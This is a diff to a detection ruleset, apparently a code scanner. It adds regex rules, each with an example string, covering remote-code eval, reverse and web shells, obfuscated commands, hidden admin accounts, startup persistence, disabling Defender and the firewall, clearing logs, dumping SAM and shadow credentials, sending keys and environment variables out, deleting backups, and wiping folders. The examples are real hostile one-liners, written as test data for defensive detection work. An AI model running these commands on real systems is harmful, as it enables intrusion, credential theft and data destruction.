@@ -128,6 +128,28 @@ const loaders = rows("fetch-run", "code", [
   },
 ]);
 
+/** The same in languages that no parser here reads. */
+const answersRun = rows("fetch-run", "code", [
+  {
+    id: "evaluated-answer",
+    detail: "the answer of a request",
+    hints: ["eval"],
+    pattern:
+      /\b(?:instance_|class_)?eval\(?\s{0,3}\(?(?:Net::HTTP\.get|URI\.open|open\(|file_get_contents\(\s{0,3}["']https?:|get\(\s{0,3}["']https?:)/g,
+    example: "eval(file_get_contents('https://tool.zone/p'));",
+    not: "eval(file_get_contents('local.inc'));",
+  },
+  {
+    id: "kept-answer",
+    detail: "the answer of a request",
+    hints: ["net::http.get", "file_get_contents", "get("],
+    pattern:
+      /[$\w]{1,30}\s{0,3}=\s{0,3}(?:Net::HTTP\.get\(|file_get_contents\(\s{0,3}["']https?:|(?:LWP::Simple::)?get\(\s{0,3}["']https?:)/g,
+    after: /^[\s\S]{0,300}?\b(?:instance_)?eval[\s({]{1,3}\$?\w{1,30}/,
+    example: "code = Net::HTTP.get(URI(address))\ninstance_eval(code)",
+  },
+]);
+
 const shells = rows("open-shell", "command", [
   {
     id: "bash-to-socket",
@@ -144,6 +166,23 @@ const shells = rows("open-shell", "command", [
     pattern: /\bos\.dup2\(\s{0,4}\w{1,20}\.fileno\(\)/g,
     after: /\b(?:pty\.spawn|subprocess\.\w{3,12}|os\.(?:system|exec\w{1,3}))\(|["']\/bin\/(?:ba|z)?sh/,
     example: 'os.dup2(s.fileno(), 0)\npty.spawn("/bin/sh")',
+  },
+  {
+    id: "socket-shell",
+    detail: "a shell fed from a socket",
+    hints: ["net.dial(", "tcpclient(", "tcpsocket"],
+    pattern: /\bnet\.Dial\(\s{0,3}"tcp"|\bNet\.Sockets\.TCPClient\(|\bTCPSocket\.(?:new|open)\(/gi,
+    after:
+      /\bexec\.Command\(\s{0,3}"(?:\/bin\/(?:ba)?sh|cmd)|\b(?:iex|Invoke-Expression)\b|\bexec\s{0,3}["'(]|["']\/bin\/sh/i,
+    example: 'c, _ := net.Dial("tcp", a)\ns := exec.Command("/bin/sh", "-i")',
+  },
+  {
+    id: "web-shell",
+    detail: "commands out of a request",
+    hints: ["$_get", "$_post", "$_request", "$_cookie"],
+    pattern:
+      /\b(?:system|exec|shell_exec|passthru|eval|assert)\(\s{0,3}(?:base64_decode\(\s{0,3})?\$_(?:GET|POST|REQUEST|COOKIE)\b/gi,
+    example: "<?php system($_GET['c']);",
   },
   {
     id: "netcat",
@@ -180,7 +219,8 @@ const decoders = rows("decode-run", "code", [
     detail: "base64",
     hints: ["frombase64string"],
     pattern: /\[(?:System\.)?Convert\]::FromBase64String\([^\n]{0,200}/gi,
-    after: /\biex\b|Invoke-Expression|\]::Load\(|ScriptBlock\b|EntryPoint|VirtualAlloc/i,
+    after:
+      /\biex\b|Invoke-Expression|\]::Load\(|ScriptBlock\b|EntryPoint|VirtualAlloc|WriteAllBytes\([^\n]{0,60}\.(?:exe|dll|ps1|bat)\b|\bInvoke-Item\b/i,
     except: /\.(?:png|jpe?g|webp|gif|ico|pdf|pfx|cer|crt|pem)["']/i,
     example: "$t = [Convert]::FromBase64String($x)\nInvoke-Expression ([Text.Encoding]::UTF8.GetString($t))",
   },
@@ -203,6 +243,13 @@ const decoders = rows("decode-run", "code", [
 ]);
 
 const hidden = rows("hide", "name", [
+  {
+    id: "name-by-characters",
+    detail: "a command is written character by character",
+    hints: ["[char]"],
+    pattern: /(?:\[char\]\s{0,2}(?:0x)?\d{2,3}\s{0,3}\+\s{0,3}){2,40}\[char\]/gi,
+    example: "& ([char]105+[char]101+[char]120) $text",
+  },
   {
     id: "import-by-detour",
     detail: "a module is taken in by a detour",
@@ -279,6 +326,24 @@ const kept = rows("persist", "code", [
       /\b(?:appendFile(?:Sync)?|writeFile(?:Sync)?|open)\(\s{0,4}[^\n]{0,80}\.(?:zshrc|bashrc|bash_profile|zshenv|zprofile)\b["'`]?\)?\s{0,3},\s{0,3}(?!\s{0,3}["']r)/g,
     example: 'open(home + "/.zshrc", "a")',
     not: 'open(home + "/.zshrc", "r")',
+  },
+  {
+    id: "windows-account",
+    where: "all",
+    detail: "an account of its own",
+    hints: ["net user", "new-localuser", "chpasswd"],
+    pattern:
+      /\bnet\s{1,3}user\s{1,3}[\w$%]{2,30}\s{1,3}\S{4,40}\s{1,3}\/add\b|\bNew-LocalUser\b|\|\s{0,3}chpasswd\b/gi,
+    after:
+      /\blocalgroup\s{1,3}administrators\b|\bAdd-LocalGroupMember\b[^\n]{0,60}Administrators|\busermod\b[^\n]{0,20}\b(?:sudo|wheel)\b/i,
+    example: "net user support Pa55word! /add\nnet localgroup administrators support /add",
+  },
+  {
+    id: "start-folder",
+    detail: "the start folder of Windows",
+    hints: ["programs\\startup", "programs/startup"],
+    pattern: /\bStart Menu[\\/]Programs[\\/]Startup\b[^\n]{0,80}\.(?:vbs|bat|cmd|ps1|exe|lnk)\b/gi,
+    example: 'Copy-Item a.vbs "$env:APPDATA\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\a.vbs"',
   },
   {
     id: "run-key",
@@ -360,8 +425,26 @@ const protections = rows("disable", "protection", [
     detail: "Windows Defender",
     hints: ["mppreference"],
     pattern:
-      /\bSet-MpPreference\b[^\n]{0,80}-Disable\w{3,40}(?!\s{1,4}\$false)\b|\bAdd-MpPreference\b[^\n]{0,40}-ExclusionPath/gi,
+      /\bSet-MpPreference\b[^\n]{0,80}-Disable\w{3,40}(?!\s{1,4}\$false)\b|\bAdd-MpPreference\b[^\n]{0,40}-Exclusion(?:Path|Process)/gi,
     example: "Set-MpPreference -DisableRealtimeMonitoring $true",
+  },
+  {
+    id: "windows-guards",
+    where: "all",
+    detail: "a protection of Windows",
+    hints: ["advfirewall", "amsiutils", "enablelua", "windefend"],
+    pattern:
+      /\bnetsh\s{1,3}advfirewall\b[^\n]{0,40}\bstate\s{1,3}off\b|\bAmsiUtils\b|\bEnableLUA\b[^\n]{0,40}\b0\b|\b(?:net|sc)(?:\.exe)?\s{1,3}stop\s{1,3}WinDefend\b/gi,
+    example: "netsh advfirewall set allprofiles state off",
+  },
+  {
+    id: "traces",
+    where: "all",
+    detail: "the records of what was done",
+    hints: ["wevtutil", "historysavepath", "/var/log/", "vacuum-time"],
+    pattern:
+      /\bwevtutil\s{1,3}cl\b|\bRemove-Item\b[^\n]{0,40}HistorySavePath|(?:^|[;&|\n`]\s{0,4})(?:echo\s{0,2})?>\s{0,2}\/var\/log\/(?:lastlog|wtmp|auth\.log|syslog)\b/gi,
+    example: "wevtutil el | ForEach-Object { wevtutil cl $_ }",
   },
   {
     id: "apple-checks",
@@ -520,6 +603,15 @@ const stores = rows("read", "secret", [
     example: "Local Extension Settings/nkbihfbeogaeaoehlefnkodbefgpgknn",
   },
   {
+    id: "login-memory",
+    where: "all",
+    detail: "login secrets of the system",
+    hints: ["minidump", "hklm\\sam", "passwordvault", "/etc/shadow"],
+    pattern:
+      /\bcomsvcs\.dll\W{1,4}MiniDump\b|\breg(?:\.exe)?\s{1,3}save\s{1,3}HKLM\\(?:SAM|SECURITY)\b|\bPasswordVault\b|\bcp\s{1,3}\/etc\/shadow\b/gi,
+    example: "reg save HKLM\\SAM C:\\temp\\s.hiv",
+  },
+  {
     id: "messenger-store",
     where: "all",
     detail: "the sessions of a messenger",
@@ -639,14 +731,59 @@ const carried = rows("send", "secret", [
   },
 ]);
 
+const sentOut = rows("send", "secret", [
+  {
+    id: "environment-out",
+    detail: "the environment",
+    hints: ["env", "environ"],
+    pattern:
+      /\bENV\.to_h\b|\$_ENV\b(?!\[)|\bgetenv\(\)|\bos\.Environ\(\)|\b(?:Get-ChildItem|gci|dir)\s{1,3}env:(?=[\s|)])|%ENV\b/gi,
+    after:
+      /\bNet::HTTP\.post|\bhttp\.Post|\bcurl_setopt\b|\bwp_remote_post\b|\bstream_context_create\b|->post\(|\bInvoke-(?:RestMethod|WebRequest)\b|\bPOST\b/,
+    example: "keys = ENV.to_h\nNet::HTTP.post(URI(address), JSON.dump(keys))",
+    not: "keys = ENV.to_h\nputs keys.size",
+  },
+  {
+    id: "key-file-out",
+    detail: "files with keys",
+    hints: [".ssh", ".aws", ".netrc", ".kube", "id_rsa"],
+    pattern: /[/\\]\.(?:ssh[/\\]id_\w{2,12}|aws[/\\]credentials|netrc|kube[/\\]config)\b(?!\.pub)/g,
+    after:
+      /\bNet::HTTP\.post|\bhttp\.Post|\bcurl_setopt\b|\bstream_context_create\b|->post\(|\bInvoke-(?:RestMethod|WebRequest)\b[^\n]{0,80}-(?:Body|InFile)/,
+    example: 'key = File.read(Dir.home + "/.ssh/id_rsa")\nNet::HTTP.post(URI(address), key)',
+  },
+]);
+
+const recovery = rows("delete", "system", [
+  {
+    id: "recovery",
+    where: "all",
+    detail: "backups and recovery of the machine",
+    hints: ["vssadmin", "wbadmin", "bcdedit", "format-volume", "tmutil"],
+    pattern:
+      /\bvssadmin\s{1,3}delete\s{1,3}shadows\b|\bwbadmin\b\W{1,4}delete\b|\bbcdedit\b[^\n]{0,40}\brecoveryenabled\s{1,3}no\b|\bFormat-Volume\b[^\n]{0,60}-Force\b/gi,
+    example: "vssadmin delete shadows /all /quiet",
+  },
+]);
+
 const erased = rows("delete", "work-files", [
+  {
+    id: "batch-tree",
+    where: "all",
+    detail: "rd over a whole folder",
+    hints: ["rd /s", "rmdir /s", "del /"],
+    pattern:
+      /\b(?:rd|rmdir|del)\s{1,3}\/s\s[^\n]{0,20}(?:%USERPROFILE%|%CD%|[\s\\]\*(?:\.\*)?)["']?\s{0,3}(?:$|[\r\n&])/gim,
+    example: "rd /s /q %USERPROFILE%",
+    not: "rd /s /q build",
+  },
   {
     id: "powershell-tree",
     where: "all",
     detail: "Remove-Item over a whole folder",
     hints: ["remove-item"],
     pattern:
-      /\bRemove-Item\b(?=[^\n]{0,120}-Recurse)[^\n]{0,80}?[\s"'](?:\.{1,2}\\?\*?|\*|\$PWD|\$HOME|\$env:USERPROFILE|~)(?:[\\/](?:Documents|Desktop|\*))?["']?(?:\s|$)/gim,
+      /\bRemove-Item\b(?=[^\n]{0,120}-Recurse)[^\n]{0,80}?[\s"'](?:\.{1,2}\\?\*?|\*|\$PWD|\$HOME|\$env:USERPROFILE|~)(?:[\\/](?:Documents|Desktop|\*)){0,2}["']?(?:\s|$)/gim,
     example: "Remove-Item -Recurse -Force .\\*",
     not: "Remove-Item -Recurse -Force .\\build",
   },
@@ -655,7 +792,7 @@ const erased = rows("delete", "work-files", [
     detail: "every file of a folder",
     hints: ["get-childitem", "gci"],
     pattern:
-      /\b(?:Get-ChildItem|gci)\b(?![^\n|]{0,120}-(?:Filter|Include)\b)[^\n|]{0,80}-Recurse[^\n|]{0,40}\|\s{0,3}(?:Remove-Item|%\s{0,3}\{\s{0,3}Remove-Item|ForEach-Object\s{0,3}\{\s{0,3}Remove-Item)/gi,
+      /\b(?:Get-ChildItem|gci)(?:\s{1,3}(?:\.\\?\*?|~|\$PWD|\$HOME))?(?:\s{1,3}-\w{1,12}){0,3}\s{1,3}-Recurse(?![^\n|]{0,60}-(?:Filter|Include))[^\n|]{0,40}\|[\s%{]{0,5}(?:ForEach-Object[\s{]+)?Remove-Item/gi,
     example: "Get-ChildItem -Recurse -File | Remove-Item -Force",
     not: "Get-ChildItem -Recurse -Filter *.tmp | Remove-Item",
   },
@@ -693,6 +830,7 @@ const configCode = rows("run", "text", [
 
 export const codeSigns: readonly CodeSign[] = [
   ...loaders,
+  ...answersRun,
   ...shells,
   ...decoders,
   ...hidden,
@@ -705,6 +843,8 @@ export const codeSigns: readonly CodeSign[] = [
   ...asked,
   ...recorded,
   ...carried,
+  ...sentOut,
+  ...recovery,
   ...erased,
   ...locked,
   ...configCode,
